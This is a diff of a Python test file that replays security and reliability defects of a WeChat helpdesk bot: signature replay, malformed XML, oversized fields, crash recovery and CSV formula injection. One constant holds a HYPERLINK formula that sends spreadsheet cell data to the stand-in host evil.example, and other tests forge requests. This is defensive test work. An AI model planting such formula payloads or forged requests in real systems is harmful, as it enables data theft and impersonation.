@@ -1,20 +1,30 @@
 """Fault injection: the attacks and accidents issue 12 found, replayed so they stay fixed, on both backends.
 
-One test (or a few) per defect, named after its number in the issue; so far 2 (values longer than their
-columns), 4 (CSV formula injection), 5 (HTML and terminal escapes reaching staff), 6 (a per-user limit shared
-by all workers) and 7 (personal data in staff views).
+Seven defects (one test each, named after it) and the probes that passed then and must keep passing: killing
+the WeChat endpoint with kill -9 in the middle of a stream and letting WeChat resend, one MsgId pushed three
+times at once, staff racing for one claim.
 """
 
 from __future__ import annotations
 
 import csv
+import datetime as dt
 import io
 import os
+import signal
+import socket
 import subprocess
 import sys
+import time
+from collections.abc import Iterator
+from concurrent.futures import ThreadPoolExecutor
 from pathlib import Path
 
+import pytest
+import sqlalchemy as sa
+
 from bot.channels.telegram_staff import card_text
+from bot.channels.wechat import WeChatConfig, WeChatEndpoint
 from bot.config import ROOT
 from bot.core import Assistant
 from bot.digest import export_csv
@@ -28,7 +38,10 @@ from bot.staff import Staff, StaffService
 from bot.store import SqlStore, make_engine
 from bot.store.queue import TicketQueue
 from tests.conftest import BOT_TODAY, Clock, table_count
-from tests.test_tickets_cli import desk
+from tests.test_ticket_concurrency import AT, _run
+from tests.test_tickets_cli import NUMBER, desk
+from tests.ticket_workers import claim_one
+from tests.wechat_harness import AES_KEY, APP_ID, TOKEN, FakeWeChat, LoopThread, endpoint_url
 
 ESCALATING = "我们厂的锅炉年检证书丢了，补办要找哪个窗口"
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点击")锅炉年检证书补办'
@@ -52,6 +65,57 @@ def staff_service(store: SqlStore, clock: Clock, kb: KnowledgeBase) -> StaffServ
     return StaffService(TicketQueue(store), clock=clock, kb=kb)
 
 
+@pytest.fixture
+def wechat_url(loop: LoopThread, assistant: Assistant) -> str:
+    return endpoint_url(loop, WeChatEndpoint(WeChatConfig(token=TOKEN), assistant.handle))
+
+
+@pytest.fixture
+def follower(wechat_url: str) -> Iterator[FakeWeChat]:
+    fake = FakeWeChat(wechat_url, openid="oVictim000000000000000000001")
+    yield fake
+    fake.close()
+
+
+# ---- 1. WeChat signature replay --------------------------------------------------------------------------
+
+
+def test_1_a_captured_query_string_cannot_be_replayed(follower: FakeWeChat, wechat_url: str, store: SqlStore) -> None:
+    """A 2019 query string, or a fresh one reused with another body, cannot impersonate a follower."""
+    follower.say(ESCALATING)
+    assert NUMBER.search(follower.say("转人工").text)
+    attacker = FakeWeChat(wechat_url, openid=follower.openid)
+    try:
+        captured = str(int(dt.datetime(2019, 5, 1, tzinfo=dt.UTC).timestamp()))
+        replayed = attacker.post(attacker.xml("text", Content="查询工单"), timestamp=captured, nonce="captured")
+        assert replayed.status == 403 and "锅炉" not in replayed.body
+        assert attacker.verify().status_code == 200  # the URL check still works with a fresh timestamp
+
+        now = str(int(time.time()))
+        push = follower.xml("text", Content="你好")
+        first = follower.post(push, timestamp=now, nonce="once")
+        assert first.status == 200
+        assert follower.post(push, timestamp=now, nonce="once").text == first.text, "WeChat's own retry"
+        forged = attacker.post(attacker.xml("text", Content="查询工单"), timestamp=now, nonce="once")
+        assert forged.status == 403 and "锅炉" not in forged.body
+    finally:
+        attacker.close()
+    assert table_count_of(store, "tickets") == 1
+
+
+def test_1_safe_mode_takes_encrypted_pushes_only(loop: LoopThread, assistant: Assistant) -> None:
+    config = WeChatConfig(token=TOKEN, aes_key=AES_KEY, app_id=APP_ID)
+    url = endpoint_url(loop, WeChatEndpoint(config, assistant.handle))
+    plain, safe = FakeWeChat(url), FakeWeChat(url, safe=True)
+    try:
+        assert plain.say("社保费能缓缴吗").status == 403
+        assert safe.post(safe.xml("text", Content="社保"), msg_signature="0" * 40).status == 403
+        assert safe.say("社保费能缓缴吗").status == 200
+    finally:
+        plain.close()
+        safe.close()
+
+
 # ---- 2. values longer than their columns -----------------------------------------------------------------
 
 
@@ -70,6 +134,40 @@ def test_2_the_longest_values_each_channel_allows_are_stored_alike(assistant: As
     assert [r.text for r in again] == [r.text for r in first], "a re-delivery still finds its first replies"
     assert assistant.handle(Incoming(address, hostile, "转人工", message_id="n" * 300))[0].ticket_number
     assert len(store.tickets_of("console", hostile)) == 1
+
+
+def test_2_wechat_fields_no_push_carries_are_a_bad_request(wechat_url: str, store: SqlStore) -> None:
+    cases = [("o" * 65, "1"), ("o" * 28, "9" * 129), ("o" * 28, "12ab"), ("oFoo<bar>", "1")]
+    for openid, msg_id in cases:
+        fake = FakeWeChat(wechat_url, openid=openid)
+        xml = fake.xml("text", 1, Content="社保费能缓缴吗").replace(
+            "[CDATA[1]]></MsgId>", f"[CDATA[{msg_id}]]></MsgId>"
+        )
+        assert fake.post(xml).status == 400, (len(openid), len(msg_id))
+        fake.close()
+    longest = FakeWeChat(wechat_url, openid="o" * 28)
+    assert longest.say("社保费能缓缴吗", msg_id=2**64 - 1).status == 200
+    longest.close()
+    assert table_count_of(store, "messages") == 2
+
+
+# ---- 3. bodies expat cannot read -------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        '<?xml version="1.0" encoding="GBK"?><xml><FromUserName>oA</FromUserName><MsgType>text</MsgType>'
+        "<Content>社保</Content></xml>".encode("gbk"),
+        b'<?xml version="1.0" encoding="x-unknown"?><xml><MsgType>text</MsgType></xml>',
+        b"\xff\xfe<\x00x\x00m\x00l\x00>\x00",
+    ],
+    ids=["gbk", "unknown-encoding", "utf16-garbage"],
+)
+def test_3_any_unreadable_body_is_a_bad_request(follower: FakeWeChat, body: bytes) -> None:
+    reply = follower.post(body)
+    assert reply.status == 400 and "Traceback" not in reply.body
+    assert follower.say("社保费能缓缴吗").status == 200, "the endpoint keeps serving"
 
 
 # ---- 4. CSV formula injection ----------------------------------------------------------------------------
@@ -179,3 +277,112 @@ def test_7_staff_views_mask_personal_data_and_the_handler_reveal_is_recorded(
     assert "13812345678" in svc.show(zhang, number).ticket.question
     events = TicketQueue(store).events(listed.id)
     assert [(e.actor, e.action) for e in events][-1] == ("张三", "查看个人信息")
+
+
+# ---- the probes that passed: keep them passing -----------------------------------------------------------
+
+
+def test_probe_one_msgid_pushed_three_times_at_once_is_answered_once(follower: FakeWeChat, store: SqlStore) -> None:
+    follower.say(ESCALATING)
+    with ThreadPoolExecutor(3) as pool:
+        texts = {r.text for r in pool.map(lambda _: follower.say("转人工", msg_id=424242), range(3))}
+    assert len(texts) == 1 and NUMBER.search(texts.pop())
+    assert len(store.tickets_of("wechat", follower.openid)) == 1
+
+
+@pytest.mark.slow
+def test_probe_of_eight_staff_racing_for_one_claim_exactly_one_wins(store: SqlStore, db_url: str) -> None:
+    number = ticket_of_store(store)
+    outcomes = dict(_run(claim_one, [(db_url, number, f"staff{i}") for i in range(8)]))
+    assert sorted(outcomes.values()) == ["lost"] * 7 + ["won"]
+
+
+@pytest.mark.slow
+def test_probe_kill_9_mid_stream_then_wechat_resends_everything(db_url: str, tmp_path: Path) -> None:
+    """The endpoint is killed while answering a stream; WeChat resends every push to the restarted one."""
+    pushes = [(f"oStream{i % 4:021d}", 880000 + i, ESCALATING if i % 3 == 0 else "社保费能缓缴吗") for i in range(24)]
+    server = WeChatProcess(db_url, tmp_path)
+    try:
+        with ThreadPoolExecutor(4) as pool:
+            sent = [pool.submit(server.push, *p) for p in pushes]
+            while sum(f.done() for f in sent) < 6:
+                time.sleep(0.01)
+            server.kill()
+            [f.exception() for f in sent]
+        server.start()
+        first = [server.push(*p) for p in pushes]
+        again = [server.push(*p) for p in pushes]
+    finally:
+        server.stop()
+    assert all(r == 200 for r, _ in first) and [t for _, t in again] == [t for _, t in first]
+    engine = make_engine(db_url)
+    try:
+        with engine.connect() as conn:
+            incoming = conn.execute(sa.text("SELECT count(*) FROM messages WHERE direction = 'in'")).scalar_one()
+            tickets = conn.execute(sa.text("SELECT count(*), count(DISTINCT source_message_id) FROM tickets")).one()
+    finally:
+        engine.dispose()
+    assert incoming == len(pushes), "each push recorded exactly once: none lost, none twice"
+    assert tickets[0] == tickets[1], "no message opened a second ticket"
+
+
+# ---- helpers ---------------------------------------------------------------------------------------------
+
+
+def table_count_of(store: SqlStore, table: str) -> int:
+    with store.engine.connect() as conn:
+        return int(conn.execute(sa.text(f"SELECT count(*) FROM {table}")).scalar_one())
+
+
+def ticket_of_store(store: SqlStore) -> str:
+    from bot.store.base import NewTicket
+
+    return store.open_ticket(NewTicket(Address("wechat", "c1"), "u1", "复工备案找谁", AT, "msg-1")).number
+
+
+class WeChatProcess:
+    """`run_bot.py` serving the WeChat endpoint (plain mode), started and killed like a real deployment."""
+
+    def __init__(self, db_url: str, cwd: Path) -> None:
+        with socket.socket() as s:
+            s.bind(("127.0.0.1", 0))
+            self.port = s.getsockname()[1]
+        self.env = {
+            **os.environ,
+            "WECHAT_TOKEN": TOKEN,
+            "WECHAT_PORT": str(self.port),
+            "DATABASE_URL": db_url,
+            "BOT_TODAY": "2020-03-21",
+        }
+        self.cwd = cwd
+        self.proc: subprocess.Popen[bytes] | None = None
+        self.start()
+
+    def start(self) -> None:
+        cmd = [sys.executable, str(ROOT / "run_bot.py")]
+        self.proc = subprocess.Popen(cmd, env=self.env, cwd=self.cwd, stderr=subprocess.DEVNULL)
+        for _ in range(600):
+            with socket.socket() as probe:
+                if probe.connect_ex(("127.0.0.1", self.port)) == 0:
+                    return
+            assert self.proc.poll() is None, "the endpoint did not start"
+            time.sleep(0.05)
+        raise AssertionError("the endpoint did not listen")
+
+    def push(self, openid: str, msg_id: int, text: str) -> tuple[int, str]:
+        fake = FakeWeChat(f"http://127.0.0.1:{self.port}/wechat", openid=openid)
+        try:
+            reply = fake.post(fake.xml("text", msg_id, Content=text, CreateTime="1584756000"))
+            return reply.status, reply.text
+        finally:
+            fake.close()
+
+    def kill(self) -> None:
+        assert self.proc is not None
+        self.proc.send_signal(signal.SIGKILL)
+        self.proc.wait(30)
+
+    def stop(self) -> None:
+        if self.proc is not None and self.proc.poll() is None:
+            self.proc.terminate()
+            self.proc.wait(30)
